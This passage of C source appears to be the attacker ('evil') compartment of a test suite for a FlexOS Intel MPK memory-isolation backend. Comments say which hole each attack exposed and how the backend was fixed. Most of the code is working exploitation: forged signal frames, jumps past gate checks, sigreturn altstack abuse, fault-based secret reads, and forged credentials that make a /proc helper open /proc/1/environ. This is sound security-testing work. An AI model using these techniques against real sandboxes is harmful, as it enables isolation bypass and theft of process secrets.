	    mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	struct sigaction sa;
	pthread_t t;
	size_t off;

	for (off = 0; off < 1024 && memcmp(e + off, pat, sizeof(pat)); off++)
		;
	if (off == 1024 || si == MAP_FAILED)
		return 0;
	rl_insn = (uintptr_t)e + off + 6;
	si->si_signo = SIGSYS;
	si->si_code = 1; /* SYS_SECCOMP */
	((int *)si)[6] = SYS_pkey_alloc;
	rl_si = (uintptr_t)si;
	rl_uc = target - (offsetof(ucontext_t, uc_mcontext.gregs) + 8 * REG_RDI);
	rl_lock = (volatile uint32_t *)flexos__mpk_ro.ro.lock;
	rl_tid = (int)syscall(SYS_gettid);
	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = rl_handler;
	if (sigaction(SIGUSR1, &sa, NULL) || pthread_create(&t, NULL, rl_sender, NULL))
		return 0;
	fprintf(stderr,
		"report-lock-signal: the report's PKRU taken at %#lx; app's secret at %#lx\n",
		(unsigned long)rl_insn, (unsigned long)target);
	usleep(10000);
	rl_go = 1;
	flexos__mpk_segv_entry(SIGSEGV, si, NULL); /* a forged report: never returns */
	return 0;
}

/*
 * report-fpregs-adjacent (an attack review's): a forged fault (the jump
 * of report-forge-segv) whose "ucontext", where the kernel would have
 * written it, lies in the last bytes of key-0 memory evil writes (the
 * image's .bss page below app's .bss), so that the XSAVE area after it is
 * app's first .bss bytes: the report read them with its PKRU (a few bits:
 * whether a word was the XSAVE magic) and printed a PKRU "(expected)".
 * Those words are now read first with the frame's PKRU: the read faults.
 */
extern char __flexos_app_bss_start[];

static long report_fpregs_adjacent(void)
{
	const unsigned char *e = (const unsigned char *)flexos__mpk_segv_entry;
	const unsigned char kind[] = {0x41, 0xbc, 0x00, 0x00, 0x00, 0x00};
	siginfo_t *si =
	    mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	uintptr_t x = (uintptr_t)__flexos_app_bss_start, uc = x - (MPK_UC_COPY + MPK_SI_COPY);
	size_t off;

	for (off = 0; off < 64 && memcmp(e + off, kind, sizeof(kind)); off++)
		;
	if (off == 64 || si == MAP_FAILED || (x & 63))
		return 0;
	forge_at = (uintptr_t)e + off;
	si->si_signo = SIGSEGV;
	si->si_code = SEGV_PKUERR;
	si->si_addr = (void *)x;
	((ucontext_t *)uc)->uc_mcontext.fpregs = (void *)x;
	fprintf(stderr,
		"report-fpregs-adjacent: a ucontext at %#lx, its XSAVE area at %#lx: app's .bss\n",
		(unsigned long)uc, (unsigned long)x);
	__asm__ volatile("mov %0, %%r14\n\tmov %1, %%r15\n\tmov %2, %%r13\n\t"
			 "cmp %%r13, %%r13\n\tjmp *forge_at(%%rip)"
			 :
			 : "r"(si), "r"(uc), "r"((uintptr_t)SIGSEGV)
			 : "r13", "r14", "r15", "memory");
	return 0;
}

/*
 * report-unwind-handler (an attack review's): a forged fault (the jump
 * of report-forge-segv) whose frame, in key-0 memory of evil's, has the
 * unwinder walk 20 frames of evil's stack and then read an unmapped page.
 * Once backtrace_and_exit has set SIGSEGV to the report's entry and let
 * it in, evil's second thread sets SIGSEGV to a handler of evil's again
 * (an action the runtime allows: its delivery stub), so the unwinder's
 * fault ran evil's handler on the thread holding the report's lock, which
 * jumped into the report with a "ucontext" over app's secret (printed in
 * 3 of 6 runs, two CPUs). The delivery stub now runs no handler while a
 * report is in progress.
 */
__asm__(".text\n.globl ul_chain\n.type ul_chain,@function\nul_chain:\n.cfi_startproc\n"
	"nop\nnop\nnop\nnop\nnop\nnop\nnop\nnop\nret\n.cfi_endproc\n.size ul_chain,.-ul_chain\n");
extern char ul_chain[];
static volatile long ul_tries;

static void *ul_installer(void *arg)
{
	struct sigaction sa;

	(void)arg;
	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = rl_handler;
	for (;;) {
		sigaction(SIGSEGV, &sa, NULL);
		ul_tries++;
	}
	return NULL;
}

static long report_unwind_handler(uintptr_t target)
{
	const unsigned char *e = (const unsigned char *)flexos__mpk_segv_entry;
	const unsigned char kind[] = {0x41, 0xbc, 0x00, 0x00, 0x00, 0x00};
	const unsigned char pat[] = {0x41, 0x83, 0xfc, 0x0a, 0x74};
	char *page =
	    mmap(NULL, 3 * 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	pthread_t t;
	size_t off, off2;

	for (off = 0; off < 64 && memcmp(e + off, kind, sizeof(kind)); off++)
		;
	for (off2 = 0; off2 < 1024 && memcmp(e + off2, pat, sizeof(pat)); off2++)
		;
	if (off == 64 || off2 == 1024 || page == MAP_FAILED ||
	    mprotect(page + 2 * 4096, 4096, PROT_NONE))
		return 0;
	siginfo_t *si = (siginfo_t *)page, *si2 = (siginfo_t *)(page + 2048);
	ucontext_t *uc = (ucontext_t *)(page + 4096 - 1024);
	forge_at = (uintptr_t)e + off;
	rl_insn = (uintptr_t)e + off2 + 6;
	/* the second report's "siginfo" and "ucontext" (over app's secret) */
	si2->si_signo = SIGSYS;
	si2->si_code = 1;
	((int *)si2)[6] = SYS_pkey_alloc;
	rl_si = (uintptr_t)si2;
	rl_uc = target - (offsetof(ucontext_t, uc_mcontext.gregs) + 8 * REG_RDI);
	rl_lock = (volatile uint32_t *)flexos__mpk_ro.ro.lock;
	rl_tid = (int)syscall(SYS_gettid);
	/* the forged fault: 20 frames of ul_chain below the unmapped page */
	si->si_signo = SIGSEGV;
	si->si_code = SEGV_PKUERR;
	si->si_addr = (void *)target;
	uintptr_t *w = (uintptr_t *)(page + 2 * 4096) - 20;
	for (int i = 0; i < 20; i++)
		w[i] = (uintptr_t)ul_chain + 4;
	uc->uc_mcontext.gregs[REG_RIP] = (greg_t)(uintptr_t)ul_chain + 4;
	uc->uc_mcontext.gregs[REG_RSP] = (greg_t)(uintptr_t)w;
	uc->uc_mcontext.fpregs = NULL;
	if (pthread_create(&t, NULL, ul_installer, NULL))
		return 0;
	fprintf(stderr,
		"report-unwind-handler: a forged fault whose unwinding faults; app's secret at "
		"%#lx\n",
		(unsigned long)target);
	while (ul_tries < 3)
		;
	__asm__ volatile("mov %0, %%r14\n\tmov %1, %%r15\n\tmov %2, %%r13\n\t"
			 "cmp %%r13, %%r13\n\tjmp *forge_at(%%rip)"
			 :
			 : "r"(si), "r"(uc), "r"((uintptr_t)SIGSEGV)
			 : "r13", "r14", "r15", "memory");
	return 0;
}

static long setxid(void)
{
	pthread_t t;
	gid_t gid = getgid() == 0 ? 1 : getgid();

	int r = setresgid(gid, gid, gid);
	fprintf(stderr, "setxid: one thread: setresgid(%u): %s\n", (unsigned)gid,
		r ? strerror(errno) : "done");
	if (pthread_create(&t, NULL, setxid_sleeper, NULL))
		return 0;
	r = setresgid(gid, gid, gid);
	fprintf(stderr, "setxid: two threads: setresgid(%u): %s\n", (unsigned)gid,
		r ? strerror(errno) : "done");
	pthread_join(t, NULL);
	errno = r ? errno : ENOENT;
	return 0;
}

/*
 * Mode 72, proc-helper-forge (an attack review's): the /proc helper
 * (backends/mpk/procfiles.c) opens the file a request names in the /proc
 * directory of the pid the kernel attaches to it, which a sender with
 * CAP_SYS_ADMIN may choose: evil, as root, asks for /proc/1/environ,
 * which Landlock refuses it. The helper now serves only the image and its
 * descendants.
 */
static long helper_forge(void)
{
	char path[64];
	int direct = open("/proc/1/environ", O_RDONLY);
	fprintf(stderr, "proc-helper-forge: open(/proc/1/environ) itself: %s\n",
		direct >= 0 ? "opened" : strerror(errno));
	if (direct >= 0)
		close(direct);
	for (int hfd = 3; hfd < 1024; hfd++) {
		int type = 0;
		socklen_t tl = sizeof(type);
		if (getsockopt(hfd, SOL_SOCKET, SO_TYPE, &type, &tl) || type != SOCK_SEQPACKET)
			continue;
		int sv[2];
		if (socketpair(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0, sv))
			return 0;
		struct timeval wait = {2, 0};
		setsockopt(sv[0], SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof(wait));
		union {
			struct cmsghdr h;
			char buf[CMSG_SPACE(sizeof(struct ucred)) + CMSG_SPACE(sizeof(int))];
		} u;
		memset(&u, 0, sizeof(u));
		struct iovec iov = {(void *)"environ", 7};
		struct msghdr m = {.msg_iov = &iov,
				   .msg_iovlen = 1,
				   .msg_control = u.buf,
				   .msg_controllen = sizeof(u.buf)};
		struct cmsghdr *c = CMSG_FIRSTHDR(&m);
		struct ucred cr = {.pid = 1, .uid = getuid(), .gid = getgid()};
		c->cmsg_level = SOL_SOCKET;
		c->cmsg_type = SCM_CREDENTIALS;
		c->cmsg_len = CMSG_LEN(sizeof(cr));
		memcpy(CMSG_DATA(c), &cr, sizeof(cr));
		c = CMSG_NXTHDR(&m, c);
		c->cmsg_level = SOL_SOCKET;
		c->cmsg_type = SCM_RIGHTS;
		c->cmsg_len = CMSG_LEN(sizeof(int));
		memcpy(CMSG_DATA(c), &sv[1], sizeof(int));
		ssize_t n = sendmsg(hfd, &m, MSG_NOSIGNAL | MSG_DONTWAIT);
		int serr = errno;
		close(sv[1]);
		if (n < 0) {
			fprintf(stderr, "proc-helper-forge: fd %d: sendmsg: %s\n", hfd,
				strerror(serr));
			close(sv[0]);
			continue;
		}
		int err = -1, fd = -1;
		union {
			struct cmsghdr h;
			char buf[CMSG_SPACE(sizeof(int))];
		} r;
		struct iovec riov = {&err, sizeof(err)};
		struct msghdr rm = {.msg_iov = &riov,
				    .msg_iovlen = 1,
				    .msg_control = r.buf,
				    .msg_controllen = sizeof(r.buf)};
		n = recvmsg(sv[0], &rm, 0);
		close(sv[0]);
		c = CMSG_FIRSTHDR(&rm);
		if (n == sizeof(err) && c && c->cmsg_type == SCM_RIGHTS)
			memcpy(&fd, CMSG_DATA(c), sizeof(int));
		fprintf(stderr,
			"proc-helper-forge: fd %d: the helper answered %zd bytes, error %d, "
			"descriptor %d\n",
			hfd, n, err, fd);
		if (fd < 0)
			continue;
		char buf[256];
		ssize_t k = read(fd, buf, sizeof(buf) - 1);
		for (ssize_t i = 0; i < k; i++)
			if (!buf[i])
				buf[i] = ' ';
		buf[k > 0 ? k : 0] = 0;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		char link[128] = "(unknown)";
		ssize_t len = readlink(path, link, sizeof(link) - 1);
		if (len >= 0)
			link[len] = 0;
		fprintf(stderr, "proc-helper-forge: the helper opened %s for evil: \"%.80s\"\n",
			link, buf);
		close(fd);
		return 1;
	}
	errno = ENOENT;
	return 0;
}

static void *relay(void *arg)
{
	app_hold((int)(intptr_t)arg);
	return NULL;
}

int evil_spawn(int which)
{
	pthread_t t;
	int err = pthread_create(&t, NULL, relay, (void *)(intptr_t)which);

	return err ? err : pthread_detach(t);
}

/* ---- Attacks on the copy key, the restorer and the clone site (an attack review's) ---- */

/*
 * Mode 63, sigreturn-altstack: rt_sigreturn's restore_altstack sets the
 * thread's signal stack from the frame's uc_stack, past the sigaltstack
 * filter. evil captures a frame of its own (its handler of SIGUSR1, its
 * own PKRU), copies it to its memory with uc_stack naming a stack that
 * ends over app's secret, and returns through the runtime's restorer
 * (unsnapshotted path: checked, PKRU = evil's, accepted). Then as
 * frame_sigframe: the thread enters app and gets a signal.
 */
static unsigned char rv_tmpl_uc[304] __attribute__((aligned(64)));
static unsigned char rv_tmpl_fp[16384] __attribute__((aligned(64)));
static volatile int rv_tmpl_done;

static void rv_tmpl_handler(int sig, siginfo_t *si, void *ctx)
{
	const ucontext_t *uc = ctx;
	(void)sig;
	(void)si;
	memcpy(rv_tmpl_uc, ctx, sizeof(rv_tmpl_uc));
	memcpy(rv_tmpl_fp, uc->uc_mcontext.fpregs, flexos__mpk_ro.ro.xsave_size + 4);
	rv_tmpl_done = 1;
}

void evil_forge_return(void *uc);
__asm__(".text\n"
	".globl evil_forge_return\n"
	"evil_forge_return:\n"
	"pushq %rbx\n pushq %rbp\n pushq %r12\n pushq %r13\n pushq %r14\n pushq %r15\n"
	"movq %rsp, 160(%rdi)\n" /* gregs[REG_RSP] */
	"leaq 1f(%rip), %rax\n"
	"movq %rax, 168(%rdi)\n" /* gregs[REG_RIP] */
	"movq %rdi, %rsp\n"
	"jmp flexos__mpk_sigreturn\n"
	"1: popq %r15\n popq %r14\n popq %r13\n popq %r12\n popq %rbp\n popq %rbx\n"
	"ret\n");

struct rv_forged {
	unsigned char below[8192];
	unsigned char uc[304];
} __attribute__((aligned(64)));
static struct rv_forged rv_frames[2];
static unsigned char rv_fp[2][16384] __attribute__((aligned(64)));

static int rv_capture(void)
{
	struct sigaction sa;
	memset(&sa, 0, sizeof(sa));
	sa.sa_sigaction = rv_tmpl_handler;
	sa.sa_flags = SA_SIGINFO;
	if (sigaction(SIGUSR1, &sa, NULL))
		return -1;
	syscall(SYS_tgkill, getpid(), (pid_t)syscall(SYS_gettid), SIGUSR1);
	for (int i = 0; i < 100 && !rv_tmpl_done; i++)
		usleep(1000);
	return rv_tmpl_done ? 0 : -1;
}

/* This thread's signal stack set by a forged frame's uc_stack; what the kernel says after. */
static void rv_altstack_by_sigreturn(int slot, void *sp, size_t size, stack_t *now)
{
	struct rv_forged *f = &rv_frames[slot];
	void *fp = rv_fp[slot];
	stack_t ss = {.ss_sp = sp, .ss_flags = 0, .ss_size = size};

	memcpy(f->uc, rv_tmpl_uc, sizeof(f->uc));
	memcpy(rv_fp[slot], rv_tmpl_fp, sizeof(rv_fp[slot]));
	memcpy(f->uc + 224, &fp, sizeof(fp)); /* uc_mcontext.fpregs */
	memcpy(f->uc + 16, &ss, sizeof(ss));  /* uc_stack */
	evil_forge_return(f->uc);
	syscall(SYS_sigaltstack, NULL, now);
}

struct rv_arg {
	uintptr_t top, size;
	int slot, stay;
	volatile pid_t tid;
	volatile int ready;
	stack_t now;
};

static void *rv_victim(void *arg)
{
	struct rv_arg *a = arg;

	a->tid = (pid_t)syscall(SYS_gettid);
	rv_altstack_by_sigreturn(a->slot, (void *)(a->top - a->size), a->size, &a->now);
	a->ready = 1;
	if (a->stay)
		for (;;)
			usleep(1000);
	app_busy(); /* ~300 ms in 'app', with app's PKRU */
	return NULL;
}

static long sigreturn_altstack(uintptr_t target)
{
	static struct rv_arg c, a;
	pthread_t t;
	const unsigned long value = 0xdeadbeefcafe;

	if (rv_capture()) {
		printf("sigreturn-altstack: no frame captured\n");
		return 0;
	}
	if (stub_action(SIGUSR2)) {
		printf("sigreturn-altstack: rt_sigaction: %s\n", strerror(errno));
		return 0;
	}
	char *buf = mmap(NULL, 0x20000, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	c.top = (uintptr_t)buf + 0x20000 - 0x10;
	c.size = 0x10000;
	c.slot = 0;
	c.stay = 1;
	if (pthread_create(&t, NULL, rv_victim, &c))
		return 0;
	pthread_detach(t);
	while (!c.ready)
		usleep(1000);
	printf("sigreturn-altstack: calibration thread's signal stack after the forged return: "
	       "%p + %#lx flags %#x (asked %#lx + %#lx)\n",
	       c.now.ss_sp, (unsigned long)c.now.ss_size, (unsigned)c.now.ss_flags,
	       (unsigned long)(c.top - c.size), (unsigned long)c.size);
	usleep(10000);
	uintptr_t lo_cal = calibrate("sigreturn-altstack", c.tid, buf, c.top, value);
	if (!lo_cal)
		return 0;
	uintptr_t k = ((target - lo_cal) & 63) / 8, lo = target - 8 * k;
	a.size = 0x10000;
	if (k == 4) {
		lo = target + 0x120;
		a.size = 0x41414;
	} else if (k > 4) {
		lo = target - 8 * k;
	}
	a.top = c.top + (lo - lo_cal);
	a.slot = 1;
	printf("sigreturn-altstack: target %#lx, word %lu, top %#lx\n", (unsigned long)target,
	       (unsigned long)k, (unsigned long)a.top);
	if (pthread_create(&t, NULL, rv_victim, &a))
		return 0;
	pthread_detach(t);
	while (!a.ready)
		usleep(1000);
	printf("sigreturn-altstack: victim's signal stack after the forged return: %p + %#lx\n",
	       a.now.ss_sp, (unsigned long)a.now.ss_size);
	signal_in_app("sigreturn-altstack", a.tid, value);
	errno = 0;
	return 0;
}

/*
 * Mode 64, copy-key-read: a jump past the delivery stub's entry check
 * (documented as possible), with %r14 (the "frame") = a word of another
 * thread's copy area - MPK_UC_FPREGS: SIG_COPY_FRAME, with the copy key
 * open, takes that word as the XSAVE pointer and copies from it; a value
 * that is no readable address faults there, and evil's SIGSEGV handler
 * gets it in si_addr. Each read in a child of fork().
 */
void evil_stub_read(uintptr_t ctx, int sig, uint32_t pkru);
__asm__(".text\n"
	".globl evil_stub_read\n"
	"evil_stub_read:\n"
	"movq %rdi, %r14\n"
	"movl %esi, %r12d\n"
	"xorl %r13d, %r13d\n"
	"movl %edx, %eax\n"
	"jmp flexos__mpk_sig_deliver_checked\n");

/*
 * And the restorer's: a jump to the WRPKRU that closes its copy window
 * (the restorer's PKRU, which reads the copy key) with %rsp = the word -
 * MPK_UC_FPREGS, %r11 evil's own gate page: its checks take the word for
 * the XSAVE pointer and fault on it (restorer-close-read).
 */
void evil_restorer_read(uintptr_t ctx, uintptr_t gp, uintptr_t entry);
__asm__(".text\n"
	".globl evil_restorer_read\n"
	"evil_restorer_read:\n"
	"movq %rsi, %r11\n"
	"movq %rdi, %rsp\n"
	"jmp *%rdx\n");
extern const unsigned char flexos__mpk_sigreturn_copied_checked[];

struct rv_leak {
	volatile unsigned long addr, rip, done;
};
static struct rv_leak *rv_leak;

static void rv_leak_handler(int sig, siginfo_t *si, void *ctx)
{
	const ucontext_t *uc = ctx;
	(void)sig;
	rv_leak->addr = si ? (unsigned long)si->si_addr : ~0UL;
	rv_leak->rip = uc ? (unsigned long)uc->uc_mcontext.gregs[REG_RIP] : 0;
	rv_leak->done = 1;
	_exit(0);
}

struct rv_reader {
	volatile pid_t tid;
	volatile unsigned long self;
};

static void *rv_reader_victim(void *arg)
{
	struct rv_reader *v = arg;

	v->self = (unsigned long)pthread_self();
	v->tid = (pid_t)syscall(SYS_gettid);
	app_busy(); /* 300 ms in 'app' */
	return NULL;
}

extern const char flexos__mpk_gate_text_lo[], flexos__mpk_gate_text_hi[];

static long copy_key_read(long secret, int restorer)
{
	const char *mode = restorer ? "restorer-close-read" : "copy-key-read";
	static struct rv_reader v;
	struct sigaction sa;
	pthread_t t;
	static const char *const names[] = {"r8",  "r9",  "r10", "r11", "r12", "r13",
					    "r14", "r15", "rdi", "rsi", "rbp", "rbx",
					    "rdx", "rax", "rcx", "rsp", "rip"};

	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = copy_handler;
	if (sigaction(SIGUSR2, &sa, NULL) || pthread_create(&t, NULL, rv_reader_victim, &v))
		return 0;
	pthread_detach(t);
	while (!v.tid)
		usleep(1000);
	usleep(100000); /* in app_busy now */
	syscall(SYS_tgkill, getpid(), v.tid, SIGUSR2);
	usleep(100000);
	const char *page = (const char *)flexos__mpk_pkru;
	uintptr_t copy, stride, gp = 0;
	memcpy(&copy, page + MPK_PKRU_SIG_COPY, sizeof(copy));
	memcpy(&stride, page + MPK_PKRU_SIG_COPY_STRIDE, sizeof(stride));
	for (uintptr_t p = flexos__mpk_ro.ro.gp_lo; p < flexos__mpk_ro.ro.gp_hi; p += 4096)
		if (*(volatile uint64_t *)(p + MPK_G_FSBASE) == v.self &&
		    *(volatile uint64_t *)(p + MPK_G_OWNER)) {
			gp = p;
			break;
		}
	if (!gp) {
		printf("%s: the victim's gate page not found\n", mode);
		errno = ENOENT;
		return 0;
	}
	uintptr_t own_gp = 0; /* this thread's: the restorer's checks want it */
	for (uintptr_t p = flexos__mpk_ro.ro.gp_lo; p < flexos__mpk_ro.ro.gp_hi; p += 4096)
		if (*(volatile uint64_t *)(p + MPK_G_FSBASE) == (uint64_t)pthread_self())
			own_gp = p;
	uintptr_t idx = (gp - flexos__mpk_ro.ro.gp_lo) / 4096;
	uintptr_t last_uc =
	    copy + (idx * MPK_SIG_AREAS + MPK_SIG_FRAMES) * stride + MPK_SIG_COPY_UC;
	/* Direct reads first: the kernel copies under evil's PKRU (EFAULT if it cannot). */
	int fds[2];
	if (pipe(fds))
		return 0;
	printf("%s: victim's gate page %lu, last area's ucontext %#lx; a direct read: %s\n", mode,
	       (unsigned long)idx, (unsigned long)last_uc,
	       write(fds[1], (const void *)(last_uc + MPK_UC_GREGS), 8) == 8 ? "readable"
									     : strerror(errno));
	rv_leak = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (rv_leak == MAP_FAILED)
		return 0;
	long needle = app_stack_value(secret);
	int found = 0;
	for (int k = 0; k < 17; k++) {
		uintptr_t target = last_uc + MPK_UC_GREGS + 8 * (uintptr_t)k;
		rv_leak->done = 0;
		fflush(stdout);
		pid_t pid = fork();
		if (pid < 0)
			return 0;
		if (pid == 0) {
			struct sigaction s;
			memset(&s, 0, sizeof(s));
			s.sa_sigaction = rv_leak_handler;
			s.sa_flags = SA_SIGINFO;
			if (sigaction(SIGSEGV, &s, NULL))
				_exit(2);
			if (restorer) {
				/* movl ..(%rip),%eax; xorl %ecx,%ecx; xorl %edx,%edx; wrpkru */
				const unsigned char *wr =
				    (const unsigned char
					 *)((uintptr_t)flexos__mpk_sigreturn_copied_checked - 3);
				if (wr[0] != 0x0f || wr[1] != 0x01 || wr[2] != 0xef)
					_exit(4);
				evil_restorer_read(target - MPK_UC_FPREGS, own_gp,
						   (uintptr_t)(wr - 4 - 6));
			}
			evil_stub_read(target - MPK_UC_FPREGS, SIGSEGV,
				       flexos__mpk_ro.ro.sigret_pkru);
			_exit(3);
		}
		int st = 0;
		for (int i = 0; i < 2000 && waitpid(pid, &st, WNOHANG) == 0; i++)
			usleep(1000);
		if (waitpid(pid, &st, WNOHANG) == 0) {
			kill(pid, SIGKILL);
			waitpid(pid, &st, 0);
		}
		int in_gate = rv_leak->rip >= (unsigned long)flexos__mpk_gate_text_lo &&
			      rv_leak->rip < (unsigned long)flexos__mpk_gate_text_hi;
		printf("%s: app's %-3s (copy-key word %#lx): %s %#lx, fault at %#lx%s\n", mode,
		       names[k], (unsigned long)target,
		       rv_leak->done ? "si_addr" : "no fault, status",
		       rv_leak->done ? rv_leak->addr : (unsigned long)st, rv_leak->rip,
		       in_gate ? " (the gate's code)" : "");
		if (rv_leak->done && rv_leak->addr == (unsigned long)needle) {
			printf("%s: app's value %#lx read from the copy key's memory "
			       "(its %s)\n",
			       mode, (unsigned long)needle, names[k]);
			found = 1;
		}
	}
	fflush(stdout);
	if (found)
		return 1;
	errno = ENOENT;
	return 0;
}

/*
 * Mode 65, clone-cleartid-jump: clone_cleartid, entering the clone site
 * right past its CLONE_CHILD_CLEARTID probe (the registers as its prologue
 * leaves them), which nothing after the nonce's WRPKRU checks again.
 */
long evil_clone_past_probe(unsigned long flags, void *stack, uintptr_t child_tid, long tls);
__asm__(".text\n"
	".globl evil_clone_past_probe\n"
	"evil_clone_past_probe:\n"
	"pushq %rbx\n pushq %rbp\n pushq %r12\n pushq %r13\n pushq %r14\n pushq %r15\n"
	"subq $8, %rsp\n"
	"movq %rdi, %rbx\n"
	"movq %rsi, %rbp\n"
	"xorl %r12d, %r12d\n"
	"movq %rdx, %r13\n"
	"movq %rcx, %r14\n"
	"leaq 2f(%rip), %r15\n"
	"jmp flexos__mpk_clone_mask_read\n"
	"2: testq %rax, %rax\n"
	"jnz 3f\n"
	"call cleartid_child\n"
	"ud2\n"
	"3: ret\n");

static char cleartid_stack2[65536] __attribute__((aligned(16)));

static long clone_cleartid_jump(uintptr_t target)
{
	pthread_t t0;
	if (pthread_create(&t0, NULL, cleartid_first, NULL) || pthread_join(t0, NULL))
		return 0;
	unsigned long flags = CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD |
			      CLONE_SYSVSEM | CLONE_SETTLS | CLONE_CHILD_CLEARTID;
	fprintf(stderr, "clone-cleartid-jump: clone site past its probe, child_tid %#lx\n",
		(unsigned long)target);
	long ret = evil_clone_past_probe(flags, cleartid_stack2 + sizeof(cleartid_stack2), target,
					 (long)t0);
	fprintf(stderr, "clone-cleartid-jump: clone returned %ld\n", ret);
	if (ret < 0) {
		errno = (int)-ret;
		return 0;
	}
	usleep(500000); /* the thread calls app, which ends it */
	errno = 0;
	return 0;
}

/* The intel-mpk backend's holders of each compartment's pool of thread stacks (stacks.c). */
const uint64_t *flexos__mpk_pool_holders(uint64_t comp, size_t *n) __attribute__((weak));

long evil_attack(int mode, uintptr_t target, uintptr_t len, long secret)
{
	long page = sysconf(_SC_PAGESIZE);
	char path[96];
	long r = -1;

	switch (mode) {
	case 0:
		return control();
	case 1: /* a fresh key: pkey_alloc opens it in the caller's PKRU */
		r = syscall(SYS_pkey_alloc, 0, 0);
		break;
	case 2:
		r = syscall(SYS_pkey_free, 1);
		break;
	case 3: /* re-key the application's page to key 0 */
		r = syscall(SYS_pkey_mprotect, target, len, PROT_READ | PROT_WRITE, 0);
		break;
	case 4:
		r = mprotect((void *)target, len, PROT_NONE);
		break;
	case 5: /* replace the application's page with a fresh one, key 0 */
		r = mmap((void *)target, len, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) == MAP_FAILED
			? -1
			: 0;
		break;
	case 6: /* the same, from 8 pages below it: starts outside, overlaps */
		r = mmap((void *)(target - 8 * page), len + 8 * page, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) == MAP_FAILED
			? -1
			: 0;
		break;
	case 7: /* from 256 MiB below: outside every window, but long enough to reach it */
		r = mmap((void *)(target - (256 << 20)), (256 << 20) + len, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) == MAP_FAILED
			? -1
			: 0;
		break;
	case 8:
		r = munmap((void *)target, len);
		break;
	case 9: /* move the application's page where the library can reach it */
		r = mremap((void *)target, len, len, MREMAP_MAYMOVE) == MAP_FAILED ? -1 : 0;
		break;
	case 10: { /* move a page of its own over the application's */
		void *p =
		    mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		r = mremap(p, len, len, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)target) == MAP_FAILED
			? -1
			: 0;
		break;
	}
	case 11: /* zero the application's data */
		r = madvise((void *)target, len, MADV_DONTNEED);
		break;
	case 12:
		return through_proc("/proc/self/mem", target, secret, 0);
	case 13:
		return through_proc("/proc/self/mem", target, secret, 1);
	case 14:
		snprintf(path, sizeof(path), "/proc/self/task/%d/mem", (int)syscall(SYS_gettid));
		return through_proc(path, target, secret, 0);
	case 15:
		snprintf(path, sizeof(path), "/proc/%d/mem", (int)syscall(SYS_gettid));
		return through_proc(path, target, secret, 1);
	case 16: {
		long v = 0;
		struct iovec local = {&v, sizeof(v)}, remote = {(void *)target, sizeof(v)};
		r = process_vm_readv(getpid(), &local, 1, &remote, 1, 0);
		break;
	}
	case 17: {
		long v = 666;
		struct iovec local = {&v, sizeof(v)}, remote = {(void *)target, sizeof(v)};
		r = process_vm_writev(getpid(), &local, 1, &remote, 1, 0);
		break;
	}
	case 18:
		r = ptrace(PTRACE_TRACEME, 0, 0, 0);
		break;
	case 19:
		r = syscall(SYS_userfaultfd, O_CLOEXEC);
		break;
	case 20: /* READ_IMPLIES_EXEC */
		r = personality(0x0400000);
		break;
	case 21: { /* a filter of its own, which the kernel would run before the backend's */
		struct sock_filter allow = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
		struct sock_fprog prog = {1, &allow};
		r = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog);
		break;
	}
	case 22: {
		struct sock_filter allow = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
		struct sock_fprog prog = {1, &allow};
		r = prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog);
		break;
	}
	case 23:
		r = prctl(PR_SET_DUMPABLE, 1);
		break;
	case 24: /* new code, which no link-time scan has seen */
		r = mmap(NULL, page, PROT_READ | PROT_WRITE | PROT_EXEC,
			 MAP_PRIVATE | MAP_ANONYMOUS, -1, 0) == MAP_FAILED
			? -1
			: 0;
		break;
	case 25: {
		void *p =
		    mmap(NULL, page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		r = mprotect(p, page, PROT_READ | PROT_EXEC);
		break;
	}
	case 26:
		r = syscall(SYS_io_uring_setup, 8, calloc(1, 128));
		break;
	case 27: /* the i386 ABI, whose numbers differ: 20 is getpid there */
		__asm__ volatile("int $0x80" : "=a"(r) : "a"(20L) : "memory");
		r = r < 0 ? -1 : 0;
		break;
	case 61:
		return cancel_thread(0);
	case 62:
		return cancel_thread(1);
	case 58: /* not on the filter's list: compares two processes' kernel objects */
		r = syscall(SYS_kcmp, getpid(), getpid(), 1 /* KCMP_VM */, 0, 0);
		break;
	case 59: /* a call newer than the filter's review: cachestat (Linux 6.5) */
		r = syscall(451, -1, NULL, NULL, 0);
		break;
	case 60: /* not on the list: port I/O (root) */
		r = syscall(SYS_iopl, 3);
		break;
	case 56: /* the x32 ABI: x86_64's numbers with bit 30 (39: getpid) */
		__asm__ volatile("syscall"
				 : "=a"(r)
				 : "a"(0x40000000L | 39)
				 : "rcx", "r11", "memory");
		if (r < 0) {
			errno = (int)-r;
			r = -1;
		}
		break;
	case 28: { /* the FS base the gate page's owner check reads: set to itself */
		unsigned long fs = 0;
		r = syscall(SYS_arch_prctl, ARCH_GET_FS, &fs);
		if (r == 0)
			r = syscall(SYS_arch_prctl, ARCH_SET_FS, fs);
		break;
	}
	case 30:
		return perf_stack(secret);
	case 31:
		return bpf_probe(target, secret);
	case 32:
